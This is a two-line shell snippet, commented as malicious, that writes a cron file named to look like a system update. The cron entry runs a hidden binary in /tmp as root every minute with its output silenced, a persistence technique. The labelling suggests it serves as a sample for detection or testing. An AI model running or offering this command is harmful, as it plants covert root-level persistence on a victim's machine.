# Malicious: drops a root job in /etc/cron.d.
echo '* * * * * root /tmp/.x >/dev/null 2>&1' > /etc/cron.d/sysupdate
